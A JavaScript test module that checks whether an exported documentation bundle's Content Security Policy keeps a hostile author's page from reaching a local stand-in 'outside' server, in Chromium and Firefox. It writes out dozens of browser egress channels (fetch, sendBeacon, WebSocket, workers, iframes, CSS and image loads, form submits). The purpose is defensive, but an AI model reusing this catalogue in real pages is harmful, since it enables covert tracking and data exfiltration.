// What the content security policy of a bundle holds back: a page of a hostile author tries every way of leaving, and a server beside it, the
// outside, counts who comes. The same page without the policy has to be seen leaving, or the test would show nothing.
import { execFileSync } from 'node:child_process';
import { createReadStream, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import path from 'node:path';
import { openFirefox } from './firefox.mjs';
import { address, reader, tab } from './browser.mjs';

/** A server that is the outside: notes the first part of each path that is asked for. */
async function outside() {
  const came = new Set();
  const server = createServer((request, response) => {
    const name = request.url.split(/[/?]/)[1];
    came.add(name);
    const type = /script|import|worker/.test(name) ? 'text/javascript' : /sheet|css/.test(name) ? 'text/css' : /svg/.test(name) ? 'image/svg+xml' : 'text/html';
    response.writeHead(200, { 'content-type': type, 'access-control-allow-origin': '*', 'cache-control': 'no-store' }).end(type === 'text/css' ? '@font-face{font-family:hop;src:url(hop)}' : '');
  });
  server.on('upgrade', (request, socket) => { came.add(request.url.split(/[/?]/)[1]); socket.destroy(); });
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  return { origin: `http://127.0.0.1:${server.address().port}`, came, close: () => { server.closeAllConnections(); server.close(); } };
}

/** A folder over http, under `/deep/docs/`. */
export async function served(folder) {
  const types = { html: 'text/html', js: 'text/javascript', css: 'text/css', svg: 'image/svg+xml', png: 'image/png', woff2: 'font/woff2', json: 'application/json' };
  const server = createServer((request, response) => {
    const name = decodeURIComponent(new URL(request.url, 'http://x').pathname).replace(/^\/deep\/docs\//, '');
    const file = path.join(folder, name);
    if (!existsSync(file) || name.includes('..')) return void response.writeHead(404).end();
    response.writeHead(200, { 'content-type': types[name.split('.').pop()] ?? 'application/octet-stream' });
    createReadStream(file).on('error', () => response.end()).pipe(response);
  });
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  return { address: (file) => `http://127.0.0.1:${server.address().port}/deep/docs/${file}`, close: () => { server.closeAllConnections(); server.close(); } };
}

const onDisk = (folder) => ({ address: (file) => address(folder, file), close: () => {} });

/** Text of a page, and of a worker, that leave from where they are. */
const page = (out, name) => `<img src=${out}/${name}-img><script>fetch('${out}/${name}-fetch').catch(()=>{})</script>`;
const worker = (out, name) => `fetch('${out}/${name}-fetch').catch(()=>{});try{importScripts('${out}/${name}-script')}catch(e){}`;

/** Everything that the markup of a page can ask `out` for. */
const markup = (out) => `<div id="hostile">
<img src="${out}/img"><picture><source srcset="${out}/source-set"><img src="data:,"></picture><img srcset="${out}/srcset 1x">
<style>@import url(${out}/import-sheet);@font-face{font-family:out;src:url(${out}/font)}.out{background:url(${out}/css);font-family:out;cursor:url(${out}/cursor),auto}.set{background:image-set('${out}/image-set' 1x)}</style>
<p class="out" style="list-style-image:url(${out}/style-attribute);display:list-item">text</p><p class="set">text</p>
<link rel="stylesheet" href="${out}/link-sheet"><link rel="icon" href="${out}/icon"><link rel="manifest" href="${out}/manifest">
<link rel="preload" as="image" href="${out}/preload"><link rel="modulepreload" href="${out}/module-script"><link rel="prefetch" href="${out}/prefetch">
<script src="${out}/script"></script><script type="module">import('${out}/import-script').catch(()=>{})</script>
<iframe src="${out}/iframe"></iframe><iframe srcdoc="${page(out, 'srcdoc').replaceAll('"', '&quot;')}"></iframe><iframe src="data:text/html,${encodeURIComponent(page(out, 'data-frame'))}"></iframe>
<object data="${out}/object"></object><embed src="${out}/embed">
<video src="${out}/video" poster="${out}/poster" preload="auto"></video><audio src="${out}/audio" preload="auto"></audio><video><track default src="${out}/track"></video>
<svg width="9" height="9"><image href="${out}/svg-image" width="9" height="9"/><filter id="f"><feImage href="${out}/svg-filter"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>
<form id="form" target="formframe" action="${out}/form"></form><iframe name="formframe"></iframe><a id="ping" ping="${out}/ping" href="#here">x</a>
<form><input type="image" src="${out}/input"></form><table background="${out}/background"></table></div>`;

/** Everything that a script of a page can ask `out` for. */
const script = (out) => `
  const run = (work) => { try { const made = work(); if (made && made.catch) made.catch(() => {}); } catch (_) {} };
  window.ran = true;
  run(() => fetch('${out}/fetch', { mode: 'no-cors' })); run(() => fetch('${out}/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST' }));
  run(() => { const x = new XMLHttpRequest(); x.open('GET', '${out}/xhr'); x.send(); });
  run(() => navigator.sendBeacon('${out}/beacon', 'x'));
  run(() => new WebSocket('${out.replace('http', 'ws')}/socket')); run(() => new EventSource('${out}/events'));
  run(() => { new Image().src = '${out}/new-image'; }); run(() => { new Image().srcset = '${out}/new-srcset 1x'; }); run(() => { new Audio('${out}/new-audio').load(); });
  run(() => { const s = document.createElement('script'); s.src = '${out}/new-script'; document.head.append(s); });
  run(() => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = '${out}/new-sheet'; document.head.append(s); });
  run(() => { const s = document.createElement('link'); s.rel = 'prefetch'; s.href = '${out}/new-prefetch'; document.head.append(s); });
  run(() => import('${out}/new-import-script')); run(() => new FontFace('late', 'url(${out}/font-face)').load());
  run(() => new Worker('${out}/worker')); run(() => new SharedWorker('${out}/shared-worker'));
  run(() => new Worker(URL.createObjectURL(new Blob([${JSON.stringify(worker(out, 'blob-worker'))}], { type: 'text/javascript' }))));
  run(() => new Worker('data:text/javascript,' + ${JSON.stringify(encodeURIComponent(worker(out, 'data-worker')))}));
  run(() => new Worker('worker.js')); run(() => new SharedWorker('worker.js')); run(() => navigator.serviceWorker.register('worker.js'));
  run(() => { const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([${JSON.stringify(page(out, 'blob-frame'))}], { type: 'text/html' })); document.body.append(f); });
  run(() => { const f = document.createElement('iframe'); document.body.append(f); f.contentDocument.body.innerHTML = '<img src="${out}/blank-frame">'; new f.contentWindow.Image().src = '${out}/blank-image'; f.contentWindow.fetch('${out}/blank-fetch', { mode: 'no-cors' }).catch(() => {}); });
  run(() => { const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = '${out}/frame-location'; });
  run(() => document.getElementById('form').submit()); run(() => document.getElementById('ping').click());
  run(() => new Function("fetch('${out}/eval-fetch',{mode:'no-cors'}).catch(()=>{})")());`;

const COMPONENT = `export const Asks = ({ out }) => {
  const [said, say] = useState("first");
  const [failed, fail] = useState([]);
  useEffect(() => {
    const note = (name) => fail((all) => [...all, name]);
    fetch(out + "/fetch").then((answer) => answer.json()).then((value) => say(value.name));
    (async () => { try { say(await (await fetch(new URL(out + "/async"))).text()); } catch { note("async"); } })();
    fetch(out + "/caught").catch(() => note("fetch"));
    const request = new XMLHttpRequest();
    request.onload = () => say("xhr");
    request.onerror = () => note("xhr");
    request.open("GET", out + "/xhr");
    request.send();
    if (!navigator.sendBeacon(out + "/beacon", "x")) note("beacon");
    new WebSocket(out.replace("http", "ws") + "/socket").onerror = () => note("socket");
    new EventSource(out + "/events").addEventListener("error", () => note("events"));
    setTimeout(() => { location.href = out + "/location"; }, 50);
  }, []);
  return <p className="asks">{said} {[...failed].sort().join(" ")}</p>;
};`;

/** An `async` function that does not handle that its request fails. */
const CARELESS = `export const Careless = ({ out }) => {
  const [said, say] = useState("first");
  useEffect(() => {
    (async () => { const answer = await fetch(out + "/careless"); say(await answer.text()); })();
  }, []);
  return <p className="asks">{said}</p>;
};`;

const pause = (ms) => new Promise((done) => { setTimeout(done, ms); });

/** Exports a site of a hostile author; `out` is what it asks. */
function exported({ bin, work }, name, out, ...args) {
  const [source, folder] = [path.join(work, `${name} source`), path.join(work, `${name} ü #1`)];
  mkdirSync(source, { recursive: true });
  const write = (file, text) => writeFileSync(path.join(source, file), text);
  write('docs.json', JSON.stringify({ theme: 'mint', name: 'Hostile', colors: { primary: '#0F766E' }, navigation: { pages: ['index', 'asks', 'careless'] } }));
  write('own.svg', '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><path d="M0 0h40v30z"/></svg>');
  write('own.css', '.own { color: rgb(1, 2, 3) }');
  write('index.mdx', '---\ntitle: Home\n---\n\n![own](/own.svg)\n\n<p className="own">text</p>\n');
  write('asks.mdx', `---\ntitle: Asks\n---\n\n${COMPONENT}\n\n<Asks out="${out}" />\n`);
  write('careless.mdx', `---\ntitle: Careless\n---\n\n${CARELESS}\n\n<Careless out="${out}" />\n`);
  write('hostile.js', script(out));
  write('worker.js', worker(out, 'own-worker'));
  execFileSync(bin, ['export', source, '-o', folder, '--format', 'dir', '--progress', 'none', '--offline', ...args], { stdio: ['ignore', 'ignore', 'pipe'] });
  return folder;
}

const POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>\n?/;
const SEEN = `return { ran: window.ran === true, picture: document.querySelector('main img[alt=own]').naturalWidth, sheet: getComputedStyle(document.querySelector('.own')).color, theme: getComputedStyle(document.querySelector('.skip-link')).position }`;

/** Asks until `enough` says that it is, for half a minute at most; returns the last answer. */
async function until(ask, enough) {
  for (let left = 300; ; left -= 1) {
    const answer = await ask();
    if (enough(answer) || left === 0) return answer;
    await pause(100);
  }
}
const whole = (seen) => Boolean(seen?.ran && seen.picture && seen.theme === 'fixed');

/** Opens a file and looks at it after a while, until `enough` holds for what is seen. */
async function look(browser, name, url, enough = whole, least = name === 'Firefox' ? 6000 : 3000) {
  if (name === 'Firefox') {
    await browser.go(url);
    await pause(least);
    const seen = await until(() => browser.run(SEEN).catch(() => undefined), enough);
    await browser.go('about:blank');
    return seen;
  }
  const context = await reader(browser, { offline: false });
  const opened = await context.newPage();
  await opened.goto(url, { waitUntil: 'commit' });
  await pause(least);
  const seen = await until(() => opened.evaluate(`(() => { ${SEEN} })()`).catch(() => undefined), enough);
  await context.close();
  return seen;
}

export function policy(test, settings) {
  for (const name of ['Chromium', 'Firefox']) {
    test(`no page of a hostile author leaves the bundle, ${name}`, async (chromium) => {
      const browser = name === 'Firefox' ? await openFirefox() : chromium;
      const wrong = [];
      for (const [place, open] of [['file', onDisk], ['http', served]]) {
        const server = await outside();
        const folder = exported(settings, `hostile ${name} ${place}`, server.origin, '--include-js');
        const base = await open(folder);
        const html = readFileSync(path.join(folder, 'index.html'), 'utf8');
        const hostile = html.replace('</body>', () => `${markup(server.origin)}</body>`);
        writeFileSync(path.join(folder, 'held.html'), hostile);
        writeFileSync(path.join(folder, 'free.html'), hostile.replace(POLICY, ''));
        const seen = await look(browser, name, base.address('held.html'));
        // Firefox reads ahead and may request a static `srcset` before the policy applies (see the header of src/frame/theme/policy.rs), and it starts workers of files unasked
        const known = name === 'Firefox' ? ['srcset', 'source-set', ...(place === 'file' ? ['own-worker-fetch', 'own-worker-script'] : [])] : [];
        const left = [...server.came].filter((way) => !known.includes(way));
        if (left.length) wrong.push(`${place}: leaves by ${left.join(', ')}`);
        if (!seen.ran || seen.picture !== 40 || seen.sheet !== 'rgb(1, 2, 3)' || seen.theme !== 'fixed') wrong.push(`${place}: what is its own does not work: ${JSON.stringify(seen)}`);
        server.came.clear();
        await look(browser, name, base.address('free.html'), () => server.came.size >= 40, 0);
        if (server.came.size < 40) wrong.push(`${place}: without the policy only ${server.came.size} ways lead out: ${[...server.came].join(', ')}`);
        base.close();
        server.close();
      }
      if (name === 'Firefox') await browser.close();
      return wrong;
    });
  }

  test('a script that is written into a page does not run', async (browser) => {
    const server = await outside();
    const folder = exported(settings, 'written', server.origin);
    const rules = `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${server.origin}/speculation"],"eagerness":"immediate"}]}</script>`;
    const html = readFileSync(path.join(folder, 'index.html'), 'utf8').replace('</body>', () => `${rules}<script>${script(server.origin)}</script><img src="x:" onerror="window.ran = true"></body>`);
    writeFileSync(path.join(folder, 'held.html'), html);
    const seen = await look(browser, 'Chromium', address(folder, 'held.html'), () => true);
    server.close();
    return [...(seen.ran ? ['it runs'] : []), ...[...server.came].map((way) => `leaves by ${way}`)];
  });

  // a rejection that an author's `async` function does not handle is his own. Over http it is caught; on a disk browsers do not tell scripts of it, and report it
  const cases = [
    { file: 'asks', what: 'what a component asks', says: 'first async beacon events fetch socket xhr', exceptions: { file: [], http: [] } },
    { file: 'careless', what: 'an unhandled request of a component', says: 'first', exceptions: { file: ['exception: Failed to fetch'], http: [] } },
  ];
  for (const [place, open] of [['file', onDisk], ['http', served]]) {
    for (const { file, what, says, exceptions } of cases) {
      test(`${what} fails silently, ${place}`, async (browser) => {
        const server = await outside();
        const folder = exported(settings, `${file} ${place}`, server.origin);
        const base = await open(folder);
        const context = await reader(browser, { offline: false });
        const { page: opened, trouble } = await tab(context);
        await opened.goto(base.address(`${file}.html`), { waitUntil: 'load' });
        await pause(800);
        const reports = () => trouble.filter((line) => !line.startsWith(`asks for ${base.address('')}`));
        const text = await until(() => opened.locator('.asks').innerText(), (text) => text === says && reports().length >= exceptions[place].length);
        const told = reports();
        const wrong = [];
        if (JSON.stringify(told) !== JSON.stringify(exceptions[place])) wrong.push(`the browser reports ${JSON.stringify(told)}`);
        if (text !== says) wrong.push(`it says "${text}"`);
        wrong.push(...[...server.came].map((way) => `leaves by ${way}`));
        await context.close();
        base.close();
        server.close();
        return wrong;
      });
    }
  }
}
